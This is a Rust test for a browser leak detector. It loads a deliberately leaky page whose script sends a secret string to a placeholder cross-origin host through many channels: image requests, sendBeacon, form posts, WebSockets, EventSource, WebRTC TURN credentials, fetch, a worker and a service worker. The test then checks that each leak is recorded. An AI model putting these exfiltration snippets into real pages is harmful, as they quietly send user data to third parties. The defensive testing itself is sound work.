//! The record is no use if it misses something: a page that leaks in every way
//! that browsers have, and each must be found.

use std::net::TcpListener;

use anyhow::{Result, ensure};
use thirtyfour::prelude::*;
use xtask::site::Site;

use crate::browser::{Given, run};
use crate::leaks::{Tap, judge};
use crate::page::Files;
use crate::words_sent;

const SECRET: &str = "Zebulon Quartermain";

/// `THERE` is another origin, `DEAF` and `MUTE` addresses where
/// nobody is.
const PAGE: &str = r#"<!doctype html><title>leaks</title><link rel="icon" href="data:,">
<link rel="dns-prefetch" href="http://zebulon.example/"><link rel="preconnect" href="http://DEAF/">
<iframe name="frame"></iframe><form method="post" target="frame" action="THERE/form"><input name="q" value="Zebulon"></form>
<script>
const secret = "Zebulon Quartermain";
const quiet = (promise) => promise.catch(() => {});
document.cookie = "note=" + btoa("_" + secret);
const image = new Image(); image.src = "THERE/image?" + encodeURIComponent(secret);
const style = document.createElement("link"); style.rel = "stylesheet"; style.href = "THERE/style"; document.head.append(style);
navigator.sendBeacon("THERE/beacon", btoa(secret));
document.forms[0].submit();
new WebSocket("THERE/socket".replace("http", "ws"));
new EventSource("THERE/events");
const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:MUTE?transport=tcp", username: secret, credential: "x" }] });
peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
const worked = new Promise((done) => { new Worker("./worker.js").onmessage = done; });
(async () => {
  await quiet(fetch("./own/path/" + btoa(encodeURIComponent(secret)) + "/x"));
  await quiet(fetch("./own-header", { headers: { "X-Note": btoa("ab" + secret) } }));
  await quiet(fetch("./own-post", { method: "POST", body: new Blob([new TextEncoder().encode(secret)]) }));
  await quiet(fetch("THERE/post", { method: "POST", mode: "no-cors", body: new URLSearchParams({ q: secret }) }));
  await worked;
  const registration = await navigator.serviceWorker.register("./sw.js");
  await navigator.serviceWorker.ready;
  await new Promise((done) => { navigator.serviceWorker.onmessage = done; registration.active.postMessage("go"); });
  document.title = "leaked";
})();
</script>"#;
const WORKER: &str = r#"fetch("THERE/from-worker?" + btoa("Zebulon"), { mode: "no-cors" }).catch(() => {}).then(() => postMessage("done"));"#;
const SERVICE: &str = r#"onmessage = (event) => event.waitUntil(fetch("THERE/from-service", { method: "POST", mode: "no-cors", body: "Zebulon" })
  .catch(() => {}).then(() => event.source.postMessage("done")));"#;

/// What is to be found, each in a line of its own.
const WAYS: [&str; 17] = [
    "asked another origin: GET THERE/image",
    "asked another origin: GET THERE/style",
    "asked another origin: POST THERE/beacon",
    "asked another origin: POST THERE/form",
    "asked another origin: GET ws",
    "asked another origin: GET THERE/events",
    "asked another origin: POST THERE/post",
    "asked another origin: GET THERE/from-worker",
    "asked another origin: POST THERE/from-service",
    "did not only ask: POST HERE/own-post",
    "zebulon.example was looked up",
    "DEAF was connected to for nothing",
    "MUTE was connected to for nothing",
    "words of the text were sent, {\"quartermain\", \"zebulon\"}: GET /own/path/",
    "words of the text were sent, {\"quartermain\", \"zebulon\"}: GET /own-header",
    "words of the text were sent, {\"quartermain\", \"zebulon\"}: POST /own-post",
    "words of the text were sent, {\"quartermain\", \"zebulon\"}: POST /beacon",
];

#[test]
fn a_page_that_leaks_is_found_out_in_each_way() {
    let (Some(given), Some(tap)) = (Given::read(), Tap::new()) else { return };
    if let Err(error) = leak(&given, &tap) {
        panic!("{error:#}");
    }
}

fn leak(given: &Given, tap: &Tap) -> Result<()> {
    let there = Site::start(&given.dist, "/", 0)?;
    let unused = || anyhow::Ok(TcpListener::bind("127.0.0.1:0")?.local_addr()?.to_string());
    let (deaf, mute) = (unused()?, unused()?);
    let filled = |text: &str| text.replace("THERE", &there.origin()).replace("DEAF", &deaf).replace("MUTE", &mute);
    let [page, worker, service] = [PAGE, WORKER, SERVICE].map(filled);
    let files = Files::new(&[
        ("index.html", page.as_bytes()),
        ("worker.js", worker.as_bytes()),
        ("sw.js", service.as_bytes()),
    ])?;
    let folder = std::path::PathBuf::from(files.path(0));
    let here = Site::start(folder.parent().unwrap_or(&folder), "/", 0)?;
    run(given, Some(tap), &[], async |driver: WebDriver, _| {
        driver.goto(here.url()).await?;
        for _ in 0..600 {
            if driver.title().await? == "leaked" {
                // What is looked up ahead takes its time.
                tokio::time::sleep(std::time::Duration::from_secs(1)).await;
                return Ok(());
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        anyhow::bail!("the page did not get through")
    })?;
    drop(words_sent::taken());
    let wrong = judge(&tap.record()?, &words_sent::words(SECRET).collect()).wrong;
    for way in WAYS {
        let way = filled(way).replace("HERE", &here.origin());
        ensure!(wrong.iter().any(|wrong| wrong.contains(&way)), "not found: {way}\n  {}", wrong.join("\n  "));
    }
    Ok(())
}
